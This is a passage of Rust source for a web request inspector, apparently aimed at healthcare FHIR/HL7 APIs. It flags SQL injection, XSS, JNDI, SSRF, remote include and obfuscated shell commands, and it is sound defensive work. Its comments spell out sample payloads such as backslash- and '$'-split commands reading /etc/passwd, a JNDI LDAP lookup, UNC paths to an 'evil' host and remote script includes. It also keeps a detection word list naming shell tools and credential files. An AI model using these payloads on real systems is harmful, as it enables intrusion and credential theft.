                .map(|i| self.unprefixed_rules[i]);
        }
        let mut candidates = 0u128;
        match &self.literals {
            Some(literals) => {
                for found in literals.find_overlapping_iter(bytes) {
                    match self.literal_rule.get(found.pattern().as_usize()) {
                        Some(&rule) => candidates |= 1 << rule,
                        None => note(
                            found.pattern().as_usize() - self.literal_rule.len(),
                            found.range(),
                        ),
                    }
                }
            }
            None => {
                for &rule in &self.literal_rule {
                    candidates |= 1 << rule;
                }
            }
        }
        while candidates != 0 {
            let index = candidates.trailing_zeros() as usize;
            if first.is_some_and(|f| f < index) {
                break;
            }
            if self.alone[index]
                .as_ref()
                .is_some_and(|r| r.is_match(bytes))
            {
                first = Some(index);
                break;
            }
            candidates &= candidates - 1;
        }
        first.map(|i| Hit {
            rule: self.rules[i].id,
            class: self.rules[i].class,
        })
    }
}

/// The first rule that fires on a value: the encoding signals, the pattern rules, SQL
/// injection and XSS (libinjection), JNDI, SSRF.
pub fn value(n: &Normalised) -> Option<Hit> {
    value_with(n, true)
}

/// [`value`], with the SSRF check only when `urls_are_fetched` (a JSON document's URLs are
/// mostly identifiers and references, not addresses a backend fetches).
pub fn value_with(n: &Normalised, urls_are_fetched: bool) -> Option<Hit> {
    if n.decoded.starts_with("MSH") {
        if let Some(fields) = hl7_v2_fields(&n.decoded) {
            return hl7_v2_verdict(fields, urls_are_fetched);
        }
    }
    verdict(n, urls_are_fetched)
        .or_else(|| shell_escaped(&n.decoded))
        .or_else(|| comment_split(&n.decoded))
        .or_else(|| escaped_line_breaks(&n.decoded))
}

/// [`value_with`] but for the second reading of backslash-escaped letters.
fn verdict(n: &Normalised, urls_are_fetched: bool) -> Option<Hit> {
    if n.signals.invalid_utf8 {
        return Some(Hit {
            rule: "encoding-100",
            class: Class::Encoding,
        });
    }
    let present = Present::of(n.folded.as_bytes());
    // Before the patterns: `${jndi:ldap://…}` is a lookup first, a URL second.
    if let Some(hit) = present.may_hold(b"$").then(|| jndi(&n.folded)).flatten() {
        return Some(hit);
    }
    let gated = |before_values: bool| {
        GATED
            .iter()
            .zip(&compiled().gated)
            .filter(|(gate, _)| gate.before_values == before_values)
            .filter(|(gate, _)| {
                present.may_hold(&[gate.needs])
                    && memchr::memchr(gate.needs, n.folded.as_bytes()).is_some()
            })
            .find_map(|(gate, set)| first(set, gate.rules, &n.folded))
    };
    // Where `decoded` is ASCII, `folded` is it lower-cased byte for byte (backslashes as
    // slashes), so the base64 words, lower-cased, are found by the value rules' literal scan
    // of `folded`, and each place checked against `decoded` as written: one scan of the
    // value instead of two. The first to end (the longest of those) is the one
    // `base64_words` would name.
    let values = &compiled().values;
    let words = &compiled().base64_words;
    let noted = values.notes_extra() && n.decoded.is_ascii();
    let mut word: Option<(std::ops::Range<usize>, Hit)> = None;
    let note = |k: usize, at: std::ops::Range<usize>| {
        let earlier = word
            .as_ref()
            .is_none_or(|(w, _)| (at.end, at.start) < (w.end, w.start));
        if noted && earlier && n.decoded.as_bytes().get(at.clone()) == Some(&words[k].0[..]) {
            word = Some((at, words[k].1));
        }
    };
    if let Some(hit) = gated(true)
        .or_else(|| values.first_noting(&n.folded, note))
        .or_else(|| {
            present
                .may_hold(b":")
                .then(|| credentials_url(&n.folded))
                .flatten()
        })
        .or_else(|| {
            present
                .may_hold(SPLIT_WORD_BYTES)
                .then(|| split_word(&n.folded))
                .flatten()
        })
        .or_else(|| {
            present
                .may_hold(b"`")
                .then(|| back_quoted(&n.folded))
                .flatten()
        })
        .or_else(|| include_url(&n.folded))
        .or_else(|| unc_path(&n.decoded))
        .or_else(|| gated(false))
    {
        return Some(hit);
    }
    if let Some(hit) = sql_value_shape(&n.folded)
        .or_else(|| {
            present
                .may_hold(b"=")
                .then(|| same_sides(&n.folded))
                .flatten()
        })
        .or_else(|| address_then_command(&n.folded))
        .or_else(|| {
            present
                .may_hold(b";")
                .then(|| stacked_statement(&n.folded))
                .flatten()
        })
    {
        return Some(hit);
    }
    // Asked of `folded`, for `decoded`: it holds these where `folded` does (folding changes
    // letters and turns `\` into `/`).
    if present.may_hold(SQL_BREAKOUT_BYTES) && libinjection_sqli(&n.decoded) {
        return Some(Hit {
            rule: "sqli-100",
            class: Class::Sqli,
        });
    }
    if present.may_hold(b"<") && n.decoded.contains('<') {
        // A whole XML document (a CDA or FHIR XML in a note) is read as one instead.
        match super::xml::document_value(&n.decoded) {
            Some(Some(hit)) => return Some(hit),
            Some(None) => {}
            None if libinjectionrs::detect_xss(n.decoded.as_bytes()).is_injection() => {
                return Some(Hit {
                    rule: "xss-100",
                    class: Class::Xss,
                });
            }
            None => {}
        }
    }
    let base64 = if noted {
        word.map(|(_, hit)| hit)
    } else {
        base64_words(n.decoded.as_bytes())
    };
    if let Some(hit) = base64 {
        return Some(hit);
    }
    if urls_are_fetched {
        if let Some(hit) = ssrf(&n.folded).or_else(|| fetched_url(&n.folded)) {
            return Some(hit);
        }
    }
    let encoding = |rule| {
        Some(Hit {
            rule,
            class: Class::Encoding,
        })
    };
    if n.signals.nul {
        return encoding("encoding-110");
    }
    if n.signals.control {
        return encoding("encoding-120");
    }
    None
}

/// A command between line breaks written as escapes (`\nid\n`, `\n/bin/ls -al\n`,
/// `;id\n`): a backend that unescapes C-style strings, or passes the value through `echo
/// -e` or `printf`, runs it as lines. A value that starts or ends with such an escape is read
/// again with line breaks for them, and only a command found then counts (a Windows path's
/// `\notes` is a folder, whatever else the second reading makes of it).
fn escaped_line_breaks(decoded: &str) -> Option<Hit> {
    const ESCAPES: [&str; 2] = ["\\n", "\\r"];
    if !ESCAPES
        .iter()
        .any(|e| decoded.starts_with(e) || decoded.ends_with(e))
    {
        return None;
    }
    let lines = decoded.replace("\\n", "\n").replace("\\r", "\r");
    read_again(lines.as_bytes()).filter(|hit| hit.class == Class::Rce)
}

/// The fields of an HL7 v2 message (`MSH|^~\&|…`: lab results, prescriptions, SS-MIX2's
/// stored messages in Japan), when the value is one: a receiver splits it at its field,
/// component, repetition and subcomponent separators and at segment ends, so each field is
/// a value of its own. Read whole, the separators are shell syntax (`OBX|4|ID|…` pipes to
/// `id`); read by field, an injection inside one is found as anywhere else. The separators
/// are the ones the message declares in `MSH`, as a receiver reads them.
fn hl7_v2_fields(decoded: &str) -> Option<impl Iterator<Item = &str>> {
    let header = decoded.as_bytes().get(..9)?;
    let (field, encoding) = (header[3], &header[4..8]);
    let separator = |b: &u8| b.is_ascii_punctuation() && *b != b'\\';
    let declared = header.starts_with(b"MSH")
        && header[8] == field
        && separator(&field)
        && encoding[2] == b'\\'
        && [encoding[0], encoding[1], encoding[3]]
            .iter()
            .all(|b| separator(b) && *b != field);
    if !declared {
        return None;
    }
    let separators = [field, encoding[0], encoding[1], encoding[3], b'\r', b'\n'];
    Some(decoded.split(move |c: char| u8::try_from(c).is_ok_and(|b| separators.contains(&b))))
}

/// The first finding in an HL7 v2 message's fields. Apart from [`value_with`], which runs
/// for every value, so that this rare path does not weigh on it.
#[cold]
#[inline(never)]
fn hl7_v2_verdict<'a>(
    fields: impl Iterator<Item = &'a str>,
    urls_are_fetched: bool,
) -> Option<Hit> {
    fields.filter(|field| !field.is_empty()).find_map(|field| {
        value_with(
            &super::normalise::normalise_str(field, super::normalise::Plus::Literal),
            urls_are_fetched,
        )
    })
}

/// A second reading of a value rewritten as a backend would take it (`shell_escaped`,
/// `comment_split`, `escaped_line_breaks`): normalised and judged once more, not again and
/// again — normalising may decode what is left of a deeply percent-encoded value into new
/// escapes.
fn read_again(rewritten: &[u8]) -> Option<Hit> {
    verdict(
        &super::normalise::normalise(rewritten, super::normalise::Plus::Literal),
        true,
    )
}

/// A word split by an SQL comment (`uni/**/on sel/**/ect`, `SEL/*x*/ECT`): filters that
/// drop comments before matching, and some SQL dialects' own pre-processors, join the
/// pieces back. A value with a comment between two letters is read again without its
/// comments (`src/*.rs` closes none; a note's `/* aside */` stands between spaces).
fn comment_split(decoded: &str) -> Option<Hit> {
    let bytes = decoded.as_bytes();
    // Most values hold no `*`: one `memchr` says so.
    memchr::memchr(b'*', bytes)?;
    // The `/*` or `*/` at or after `from`.
    let find = |from: usize, first: u8, second: u8| {
        memchr::memchr_iter(first, &bytes[from..])
            .map(|at| at + from)
            .find(|&at| bytes.get(at + 1) == Some(&second))
    };
    let mut joined = Vec::new();
    let mut from = 0;
    let mut splits = false;
    while let Some(open) = find(from, b'/', b'*') {
        let Some(close) = find(open + 2, b'*', b'/') else {
            break;
        };
        splits |= open > 0
            && bytes[open - 1].is_ascii_alphabetic()
            && bytes.get(close + 2).is_some_and(u8::is_ascii_alphabetic);
        joined.extend_from_slice(&bytes[from..open]);
        from = close + 2;
    }
    if !splits {
        return None;
    }
    joined.extend_from_slice(&bytes[from..]);
    read_again(&joined)
}

/// A command written with backslashes before its letters (`c\at /et\c/pas\swd`): a shell
/// drops a backslash before an ordinary character, so it runs `cat /etc/passwd`, while the
/// rules read backslashes as a path's slashes. A value with a backslash between two letters
/// is read again without its backslashes (a Windows path, `C:\Users\report.pdf`, the rules
/// have read as a path already; without them it is a word, `C:Usersreport.pdf`).
fn shell_escaped(decoded: &str) -> Option<Hit> {
    let bytes = decoded.as_bytes();
    let escaped_letter = |at: usize| {
        at > 0
            && bytes[at - 1].is_ascii_alphabetic()
            && bytes.get(at + 1).is_some_and(u8::is_ascii_alphabetic)
    };
    if !memchr::memchr_iter(b'\\', bytes).any(escaped_letter) {
        return None;
    }
    let unescaped: Vec<u8> = bytes
        .iter()
        .enumerate()
        .filter(|&(at, &b)| b != b'\\' || !bytes.get(at + 1).is_some_and(u8::is_ascii_alphanumeric))
        .map(|(_, &b)| b)
        .collect();
    read_again(&unescaped)
}

/// Which of the bytes the detectors' gates ask about (`ASKED`) a value holds, found in one
/// pass over a short value instead of a `memchr` per gate (about a dozen, each a call worth
/// more than reading a FHIR code). A long value is taken to hold them all: each gate then
/// scans for itself, as fast per byte as this pass and stopping sooner.
#[derive(Clone, Copy)]
struct Present(u32);

impl Present {
    const ASKED: &'static [u8] = b"{<=($`'\";|&#-/):";
    const SHORT: usize = 256;
    const BITS: [u32; 256] = {
        let mut bits = [0; 256];
        let mut i = 0;
        while i < Self::ASKED.len() {
            bits[Self::ASKED[i] as usize] = 1 << i;
            i += 1;
        }
        bits
    };

    fn of(text: &[u8]) -> Self {
        if text.len() >= Self::SHORT {
            return Present(u32::MAX);
        }
        Present(
            text.iter()
                .fold(0, |held, &b| held | Self::BITS[usize::from(b)]),
        )
    }

    /// Whether the value may hold any of `bytes`: `false` only when it holds none of them.
    /// A byte not asked about may always be there.
    fn may_hold(self, bytes: &[u8]) -> bool {
        bytes.iter().any(|&b| {
            let bit = Self::BITS[usize::from(b)];
            bit == 0 || self.0 & bit != 0
        })
    }
}

/// Escapes no form or URL encoder writes, in a query or form value: a carriage return that
/// ends no line (`crlf-120`), a `%` that starts no escape (`encoding-130`), IIS's `%uXXXX` (`encoding-140`), a `\uXXXX` spelling an ASCII
/// letter or digit (`encoding-150`), an escape of a letter or digit encoded again (`%2573`,
/// `encoding-160`: no encoder escapes a letter, let alone twice; a filter that decodes once
/// sees `%73`, a backend that decodes twice `s`). Each is read differently by different decoders, or
/// hides a word from a filter that does not decode it. Not applied to JSON, where `%` is
/// text and `\u` the format's own escape.
pub fn form_encoding(n: &Normalised) -> Option<Hit> {
    let signals = &n.signals;
    // A carriage return not ending a line (`test%0Dnext=more`, `%0A%0D`): a form sends line
    // breaks as CRLF; a lone CR splits the value for a parser that breaks lines on it. An HL7
    // v2 message ends its segments so (a script's `URLSearchParams` keeps them): that is its
    // format, and it is read field by field, split there (`hl7_v2_fields`).
    let bytes = n.decoded.as_bytes();
    let lone_cr = memchr::memchr_iter(b'\r', bytes).any(|at| bytes.get(at + 1) != Some(&b'\n'));
    if lone_cr && hl7_v2_fields(&n.decoded).is_none() {
        return Some(Hit {
            rule: "crlf-120",
            class: Class::Crlf,
        });
    }
    let rule = if signals.stray_percent {
        "encoding-130"
    } else if signals.letter_encoded_twice {
        "encoding-160"
    } else if signals.percent_u {
        "encoding-140"
    } else if signals.escaped_ascii {
        "encoding-150"
    } else {
        return None;
    };
    Some(Hit {
        rule,
        class: Class::Encoding,
    })
}

/// `://`, searched for in most values: a searcher built once, not per value (building one
/// costs more than searching a short value).
static SCHEME_SEPARATOR: LazyLock<memchr::memmem::Finder<'static>> =
    LazyLock::new(|| memchr::memmem::Finder::new("://"));

/// A URL with a user name before its host (`rfi-150`: `http://user@evil.com/`), also one
/// whose `/` was encoded (`http://example.com%2f@evil.com/`, decoded before the rules): a
/// parser that ends the host at the first `/` and one that ends it at `@` reach two hosts.
/// FHIR's URLs carry no credentials; `https://host/@name` passes. Code, not a pattern: as a
/// pattern it kept a DFA state alive along every URL's host.
fn credentials_url(folded: &str) -> Option<Hit> {
    let text = folded.as_bytes();
    // Up to `/`, `?`, `#`, `@` or a space: whether it was `@`, after at least one byte.
    let segment = |from: usize| {
        let rest = text.get(from..).unwrap_or_default();
        let end = rest
            .iter()
            .position(|b| {
                matches!(
                    b,
                    b'/' | b'?' | b'#' | b'@' | b' ' | b'\t' | b'\n' | b'\x0b' | b'\x0c' | b'\r'
                )
            })
            .unwrap_or(rest.len());
        (end > 0).then(|| (from + end, rest.get(end).copied()))
    };
    // After `/@`: a host name (a dot in it) that ends the authority, as in
    // `http://example.com%2f@evil.com/` decoded. Mastodon's `https://host/@name` has none.
    let host_after = |from: usize| match segment(from) {
        Some((end, None | Some(b'/' | b'?' | b'#'))) => {
            let host = &text[from..end];
            host.contains(&b'.')
                && host
                    .iter()
                    .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':'))
        }
        _ => false,
    };
    let user = SCHEME_SEPARATOR
        .find_iter(text)
        .any(|at| match segment(at + 3) {
            Some((_, Some(b'@'))) => true,
            Some((end, Some(b'/'))) => match segment(end + 1) {
                Some((_, Some(b'@'))) => true,
                None => text.get(end + 1) == Some(&b'@') && host_after(end + 2),
                _ => false,
            },
            _ => false,
        });
    user.then_some(Hit {
        rule: "rfi-150",
        class: Class::Rfi,
    })
}

/// The bytes one of which every value [`split_word`] fires on holds: [`value_with`] does not
/// ask it about a short value holding none of them.
const SPLIT_WORD_BYTES: &[u8] = b"$`'\";|&";

/// A query parameter name a PHP-style parser reads otherwise than it is written (`protocol-210`,
/// CRS 921210): text after a closing bracket that opens no other (`foo[1]a[2]`, `foo[1]a`), a
/// bracket never closed, or one inside another. `ids[]`, `filter[status]`, `a[b][c]` pass.
pub fn bracket_name(name: &str) -> Option<Hit> {
    let name = name.as_bytes();
    let open = memchr::memchr(b'[', name)?;
    let mut rest = &name[open..];
    let well_formed = open > 0
        && loop {
            match rest {
                [] => break true,
                [b'[', inner @ ..] => match memchr::memchr2(b'[', b']', inner) {
                    Some(close) if inner[close] == b']' => rest = &inner[close + 1..],
                    _ => break false,
                },
                _ => break false,
            }
        };
    (!well_formed).then_some(Hit {
        rule: "protocol-210",
        class: Class::Protocol,
    })
}

/// A line in a query value that starts `name=` (`crlf-130`, CRS 921151: `test%0Anext=more`):
/// a parameter smuggled to a backend that reads the value as lines. A line break alone is
/// text (a multi-line note sent by a script).
pub fn query_line(decoded: &str) -> Option<Hit> {
    let text = decoded.as_bytes();
    let smuggled = memchr::memchr2_iter(b'\n', b'\r', text).any(|at| {
        let line = &text[at + 1..];
        let name = line
            .iter()
            .take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
            .count();
        name > 0 && line.get(name) == Some(&b'=')
    });
    smuggled.then_some(Hit {
        rule: "crlf-130",
        class: Class::Crlf,
    })
}

/// A header value that, decoded, holds a line break and then any `name:` (`crlf-100`, CRS
/// 921140): a header's value is one line, so a second one is a header injected into what
/// a backend or a log reads. Values elsewhere (a note, a text file) are lines by nature and
/// held to the header names `crlf-100`'s pattern lists.
pub fn header_line(folded: &str) -> Option<Hit> {
    let text = folded.as_bytes();
    memchr::memchr2_iter(b'\r', b'\n', text)
        .any(|at| {
            let line = text[at + 1..].trim_ascii_start();
            let name = line
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
                .count();
            name > 0 && line[name..].trim_ascii_start().first() == Some(&b':')
        })
        .then_some(Hit {
            rule: "crlf-100",
            class: Class::Crlf,
        })
}

/// A query value that is only another site's address (`rfi-160`, CRS 931130:
/// `?x=https://evil.example/`): what remote-include and open-redirect probes send, a URL with
/// nothing after its host. `host` is the request's own (`Host`): its URLs, and those of its
/// subdomains, pass. FHIR's searches name systems with a code after them
/// (`code=http://loinc.org|8867-4`) and resources with a path, which pass too.
pub fn other_origin(folded: &str, host: Option<&str>) -> Option<Hit> {
    let rest = ["https://", "http://", "ftps://", "ftp://"]
        .into_iter()
        .find_map(|scheme| folded.strip_prefix(scheme))?;
    let authority = rest.strip_suffix('/').unwrap_or(rest);
    let bare = !authority.is_empty()
        && authority
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'[' | b']'));
    if !bare {
        return None;
    }
    let own = host.is_some_and(|host| {
        let host = host.trim().to_ascii_lowercase();
        authority == host
            || authority
                .strip_suffix(host.as_str())
                .is_some_and(|sub| sub.ends_with('.'))
    });
    (!own).then_some(Hit {
        rule: "rfi-160",
        class: Class::Rfi,
    })
}

/// A word a shell joins back from pieces (`rce-220`, CRS 932200, 932230, 932240, 932290):
/// letters on both sides of a special parameter that expands to nothing in a one-off command
/// (`c$@at`, `una$$me`, `/et$?c`), of an empty command substitution (`pi$()ng`, or two
/// back-quotes; or before the space that ends the word, `ping$() 127.0.0.1`), of `${}`, or of an
/// empty quoted string (`ti''me`); a short unset variable between a word and what a shell reads
/// next (`uname$u -a`, `cat$u+/etc$u/passwd`, `cu$v\r\l`); variables joined into a word
/// (`$c1$c2$c3`, `$c $a$b`); or a value (or a command after `;`, `|`, `&`) that starts with a
/// quoted piece of its first word (`'i'fconfig`, `"w"get`). Text writes none of these;
/// `$everything`, `O'Brien`, `"O"s`, `US$ 5` pass. Code, not a pattern: it looks only where a
/// `$`, a back-quote or a quote is.
fn split_word(folded: &str) -> Option<Hit> {
    // Every shape below starts at one of `SPLIT_WORD_BYTES` (a test holds it so).
    const HIT: Hit = Hit {
        rule: "rce-220",
        class: Class::Rce,
    };
    let text = folded.as_bytes();
    let letter = |at: Option<usize>| {
        at.and_then(|i| text.get(i))
            .is_some_and(u8::is_ascii_lowercase)
    };
    // What a shell reads after a word: a space, a `+` left undecoded, a path's `/` (the
    // folded text has every backslash as a slash: `cu$v\r\l` reads `cu$v/r/l`).
    let word_end = |at: usize| matches!(text.get(at), Some(b' ' | b'+' | b'/'));
    // The word the pieces join back into must be a program's or a path's (`c$@at`,
    // `w$@ho$@ami`, `/et$?c`): a password's `Pa$$word` or `7ay$Towh+` joins into none.
    let joins_command = |start: usize, resume: usize| {
        let alnum = |b: &u8| b.is_ascii_lowercase() || b.is_ascii_digit();
        // Backwards over letters and the other empty pieces before them.
        let mut from = start;
        loop {
            from -= text[..from].iter().rev().take_while(|b| alnum(b)).count();
            match filler_before(&text[..from]) {
                Some(len) if from > len && alnum(&text[from - len - 1]) => from -= len,
                _ => break,
            }
        }
        let mut word: Vec<u8> = text[from..start]
            .iter()
            .copied()
            .filter(|b| alnum(b))
            .collect();
        // Forwards over letters, empty pieces and the backslashes a shell drops (`cu$v\r\l`).
        let mut at = resume;
        loop {
            let piece = text
                .get(at..)
                .map_or(0, |rest| rest.iter().take_while(|b| alnum(b)).count());
            word.extend_from_slice(&text[at..at + piece]);
            at += piece;
            if command_word(&word) {
                return true;
            }
            let skip = match filler_at(&text[at..]) {
                Some(len) => len,
                None if text.get(at) == Some(&b'/') && piece <= 1 => 1,
                None => return false,
            };
            if !text.get(at + skip).is_some_and(alnum) {
                return false;
            }
            at += skip;
        }
    };
    let split = memchr::memchr2_iter(b'$', b'`', text).any(|at| {
        let before = letter(at.checked_sub(1));
        if text[at] == b'$' && text.get(at + 1).is_some_and(u8::is_ascii_lowercase) {
            let name = text[at + 1..]
                .iter()
                .take_while(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || **b == b'_')
                .count();
            let next = at + 1 + name;
            let joined = text.get(next) == Some(&b'$')
                && text
                    .get(next + 1)
                    .is_some_and(|b| b.is_ascii_lowercase() || matches!(b, b'_' | b'{'));
            return joined || (before && name <= 4 && word_end(next) && joins_command(at, next));
        }
        let Some(filler) = filler_at(&text[at..]) else {
            return false;
        };
        // An empty substitution also ends a word before its space (`ping$() 127.0.0.1`).
        let ends_word = filler == 3 || text[at] == b'`';
        before
            && (letter(Some(at + filler)) || (ends_word && text.get(at + filler) == Some(&b' ')))
            && joins_command(at, at + filler)
    });
    let empty_quotes = memchr::memchr2_iter(b'\'', b'"', text).any(|at| {
        text.get(at + 1) == Some(&text[at])
            && letter(at.checked_sub(1))
            && letter(Some(at + 2))
            && joins_command(at, at + 2)
    });
    if split || empty_quotes {
        return Some(HIT);
    }
    // A quoted first piece: at the start, or after a separator and spaces.
    let starts = std::iter::once(0).chain(
        memchr::memchr3_iter(b';', b'|', b'&', text)
            .map(|at| at + 1 + text[at + 1..].iter().take_while(|b| **b == b' ').count()),
    );
    let quoted_piece = |from: usize| {
        let Some(&quote @ (b'\'' | b'"')) = text.get(from) else {
            return false;
        };
        let piece = text[from + 1..]
            .iter()
            .take_while(|b| b.is_ascii_lowercase())
            .count();
        piece > 0 && text.get(from + 1 + piece) == Some(&quote) && letter(Some(from + piece + 2))
    };
    starts.into_iter().any(quoted_piece).then_some(HIT)
}

/// The empty piece a shell expands to nothing (`$@`, `$$`, `$()`, `${}`, two back-quotes or
/// quotes) that `text` starts with, by its length: what [`split_word`] reads words across.
fn filler_at(text: &[u8]) -> Option<usize> {
    match text {
        [b'$', b'(', b')', ..] | [b'$', b'{', b'}', ..] => Some(3),
        [b'$', b'@' | b'!' | b'*' | b'?' | b'-' | b'_' | b'$' | b'#', ..] => Some(2),
        [b'`', b'`', ..] | [b'\'', b'\'', ..] | [b'"', b'"', ..] => Some(2),
        _ => None,
    }
}

/// [`filler_at`] of the piece `text` ends with.
fn filler_before(text: &[u8]) -> Option<usize> {
    [3, 2]
        .into_iter()
        .find(|&len| text.len() >= len && filler_at(&text[text.len() - len..]) == Some(len))
}

/// Back-quoted text (`rce-110`): a shell runs it, MySQL reads it as a name. Markdown writes
/// code spans the same way, and FHIR's `markdown` fields (an annotation's text, a
/// definition's description) hold them: `` `Observation.code` ``, `` `_count` ``,
/// `` `http://loinc.org` ``. A span passes when it is such a name: one word of letters,
/// digits (any script's), `_`, `-`, `.`, `[x]` or a URL, starting with a letter, a digit or `_` (or a `.` before one: `` `.oralDiet.instruction` ``), that names
/// no program (`` `id` ``, `` `whoami` `` run), written as prose writes it: not joined to
/// another span or to SQL (`` `db`.`users` ``, `` `a`,`b` ``, `` (`x`) ``, `` `x`=1 ``),
/// and in a value with no SQL clause word (`select`, `from`, `where`, `union`, …) around
/// a span, nor the whole value. Spans pair in order; a last, unpaired back-quote runs nothing.
fn back_quoted(folded: &str) -> Option<Hit> {
    let bytes = folded.as_bytes();
    let hit = Some(Hit {
        rule: "rce-110",
        class: Class::Rce,
    });
    // Markdown delimits a span by a run of back-quotes (```` ```name``` ````): each run is
    // one delimiter, from its first back-quote to its last; runs pair in order.
    let mut opening: Option<(usize, usize)> = None;
    let mut from = 0;
    while let Some(found) = memchr::memchr(b'`', &bytes[from..]) {
        let close_from = from + found;
        let close_to = close_from
            + bytes[close_from..]
                .iter()
                .take_while(|&&b| b == b'`')
                .count()
            - 1;
        from = close_to + 1;
        let Some((open_from, open_to)) = opening.take() else {
            opening = Some((close_from, close_to));
            continue;
        };
        let span = &bytes[open_to + 1..close_from];
        if span.len() < 2 {
            continue;
        }
        let (before, after) = (&bytes[..open_from], &bytes[close_to + 1..]);
        // A value that is one span is a substitution whole (`` `bla` ``, an attribute's
        // `probe="`bla`"`): no prose around it.
        if before.trim_ascii().is_empty() && after.trim_ascii().is_empty() {
            return hit;
        }
        if !markdown_name(span) || joined_like_sql(before, after) || sql_word_beside(before, after)
        {
            return hit;
        }
    }
    None
}

/// Whether a code span's text is a name as Markdown quotes one, not a command.
fn markdown_name(span: &[u8]) -> bool {
    let url = memchr::memmem::find(span, b"://").is_some();
    let first = span[usize::from(span[0] == b'.')];
    (first.is_ascii_alphanumeric() || first == b'_' || !first.is_ascii())
        && span.iter().all(|&b| {
            b.is_ascii_alphanumeric()
                || !b.is_ascii()
                || matches!(b, b'_' | b'-' | b'.' | b'[' | b']')
                || (url && matches!(b, b':' | b'/' | b'#' | b'?' | b'=' | b'&' | b'%'))
        })
        && !command_word(span)
}

/// Whether what is glued to a span joins it to SQL: a name qualified or listed
/// (`` `db`.`t` ``, `` `a`,`b` ``), an argument (`` max(`x` ``), compared or ended
/// (`` `x`=1 ``), glued to a word (`` user'collate`nocase` ``, `` `or`1 ``). Prose puts a space after its `,` and a sentence's `.` or a
/// parenthesis around a span with a space before it: "(see `code`), `a`, `b`."
fn joined_like_sql(before: &[u8], after: &[u8]) -> bool {
    let glued_after = matches!(after, [b'`' | b'=', ..] | [b'.' | b',', b'`', ..])
        || after.first().is_some_and(u8::is_ascii_alphanumeric);
    let glued_before = match before {
        [.., b'`' | b'=' | b'\\'] => true,
        [.., letter] if letter.is_ascii_alphanumeric() => true,
        [.., b'`', b'.' | b','] => true,
        [.., word, b'('] => word.is_ascii_alphanumeric() || *word == b'_',
        _ => false,
    };
    glued_after || glued_before
}

/// Words that open an SQL clause or are a value (`order by`, `true`): beside a back-quoted
/// name (`` select `x` ``, `` `users` where ``) or outside prose's quoted words they make the
/// text SQL.
const SQL_CLAUSE_WORDS: [&[u8]; 24] = [
    b"union",
    b"select",
    b"from",
    b"where",
    b"having",
    b"order",
    b"group",
    b"by",
    b"limit",
    b"into",
    b"procedure",
    b"join",
    b"insert",
    b"update",
    b"delete",
    b"drop",
    b"exec",
    b"sleep",
    b"benchmark",
    b"table",
    b"values",
    b"true",
    b"false",
    b"null",
];

/// Whether `word` is one of [`SQL_CLAUSE_WORDS`], in any case.
fn sql_clause_word(word: &[u8]) -> bool {
    SQL_CLAUSE_WORDS
        .iter()
        .any(|w| word.eq_ignore_ascii_case(w))
}

/// Whether the word before or after a span is an SQL clause word (`select `x``,
/// `` `users` where ``).
fn sql_word_beside(before: &[u8], after: &[u8]) -> bool {
    let last = before
        .trim_ascii_end()
        .rsplit(|b| !b.is_ascii_alphanumeric() && *b != b'_')
        .next()
        .unwrap_or_default();
    let next = after
        .trim_ascii_start()
        .split(|b| !b.is_ascii_alphanumeric() && *b != b'_')
        .next()
        .unwrap_or_default();
    sql_clause_word(last) || sql_clause_word(next)
}

/// Whether `word` (lower case) names a program `rce-100` or `rce-105` knows, or a piece of
/// the paths an injected command reads (`etc`, `passwd`): what [`split_word`]'s pieces must
/// join back into. A version after a name (`python3`) is read as the name.
fn command_word(word: &[u8]) -> bool {
    static WORDS: LazyLock<std::collections::HashSet<&'static [u8]>> = LazyLock::new(|| {
        concat!(
            shell_words!(),
            "|",
            tool_words!(),
            "|",
            abbreviation_tool_words!(),
            "|etc|passwd|shadow|group|hosts|bin|sbin|tmp|usr|dev|proc|self|environ|var|log|",
            "home|root|time|which|more|less|tac|rev|strings|grep|egrep|cp|mv|mkdir|export|",
            "set|eval|exec|source|printf|alias"
        )
        .split('|')
        .map(|entry| {
            // A pattern's entry up to its first piece of regex syntax (`python[0-9.]*`).
            let name = entry
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
                .map_or(entry, |end| &entry[..end]);
            name.as_bytes()
        })
        .filter(|name| name.len() >= 2)
        .collect()
    });
    let bare = word.trim_ascii_end();
    let unversioned = &bare[..bare.len()
        - bare
            .iter()
            .rev()
            .take_while(|b| b.is_ascii_digit() || **b == b'.')
            .count()];
    WORDS.contains(bare) || WORDS.contains(unversioned)
}

/// A Windows UNC path as the value (`\\evil\share\x`, `\\10.0.0.1\c$`): a Windows
/// backend that opens it reaches another host over SMB, and sends that host its account's
/// NTLM credentials (`rfi-170`). Read from `decoded`, where the backslashes are still
/// backslashes (the rules' folded text makes it a protocol-relative `//evil/share`).
fn unc_path(decoded: &str) -> Option<Hit> {
    let rest = decoded.trim_start().strip_prefix("\\\\")?;
    let host = rest
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_'))
        .count();
    (host > 0 && matches!(rest.as_bytes().get(host), Some(b'\\' | b'@'))).then_some(Hit {
        rule: "rfi-170",
        class: Class::Rfi,
    })
}

/// A URL-looking value ending in `?` (`rfi-120`, `http://evil/x.txt?`): the include's own
/// suffix becomes a query. Code, not a pattern: as a pattern its "no space up to the end"
/// kept a DFA state alive along every URL a value starts with, and cost the pattern set a
/// fifth of its first-sight time.
fn include_url(folded: &str) -> Option<Hit> {
    let text = folded.as_bytes();
    const HIT: Hit = Hit {
        rule: "rfi-120",
        class: Class::Rfi,
    };
    // Asked of every value: one look at its ends first.
    if !text.starts_with(b"//") && !matches!(text.last(), Some(b'?' | b'#')) {
        return None;
    }
    // A script named by a protocol-relative URL (`//evil.example/shell.txt`): what an
    // include prefixes with its own scheme.
    if let Some(rest) = folded.strip_prefix("//") {
        let (host, path) = rest.split_once('/')?;
        const SCRIPTS: &[&str] = &[
            "txt", "php", "php3", "php4", "php5", "phtml", "inc", "jsp", "asp", "aspx", "sh", "pl",
            "py", "cgi", "rb",
        ];
        let script = path
            .rsplit_once('.')
            .is_some_and(|(_, extension)| SCRIPTS.contains(&extension));
        return (host.contains('.') && script && !folded.contains(char::is_whitespace))
            .then_some(HIT);
    }
    // A URL cut short by `#` after a file name (`…/shell.txt#`): the include's own suffix
